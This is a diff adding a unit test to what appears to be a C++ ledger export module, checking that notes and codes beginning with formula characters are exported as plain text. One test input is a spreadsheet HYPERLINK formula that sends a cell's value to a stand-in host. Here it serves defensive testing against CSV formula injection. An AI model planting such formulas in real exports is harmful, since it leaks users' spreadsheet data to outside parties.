@@ -58,6 +58,22 @@ TEST(LineItemsExport, DayFirstDatesAndACategoryListedTwice) {
     EXPECT_EQ(LineItemsExportText(twice, EncodeRecords(ledger), Options(1, 12, "X")), "");
 }
 
+TEST(LineItemsExport, FormulaNotesAndCodesOpenAsTextInBothExports) {
+    const std::vector<LedgerRecord> ledger = {
+        Line("01-02-99", "AB", Money(-1), "=HYPERLINK(\"http://x.example/\"&C2)"),
+        Line("01-03-99", "AB", Money(-1), "\"=1+1\" quoted"),
+        Line("01-04-99", "AB", Money(-1), "  +1 555 0100"),
+        Line("01-05-99", "AB", Money(-1), "-12.50"),
+        Line("01-06-99", "AB", Money(-1), "@SUM(A1)"),
+        Line("01-07-99", "-X", Money(2), "a = b, as typed"),
+    };
+    const auto categories = ReportCategoryRecords({CategoryRecord::Make("AB", "Misc"), CategoryRecord::Make("-X", "Odd")});
+    EXPECT_EQ(LineItemsExportText(categories, EncodeRecords(ledger), Options(1, 12)),
+              ExpectedFile("export/formula_notes.txt"));
+    EXPECT_EQ(SummaryExportText(categories, EncodeRecords(ledger), kMoney),
+              "income\r\n\"'-X\",\" 2 \"\r\nexpense\r\n\"AB\",\" 5 \"\r\n");
+}
+
 TEST(SummaryExport, IncomeThenExpenseInListOrderSkippingZeroTotals) {
     const std::vector<LedgerRecord> ledger = {
         Line("12-01-99", "SA", Money(1000), "Pay"),  Line("11-01-99", "FD", Money(-20.25), "Food"),
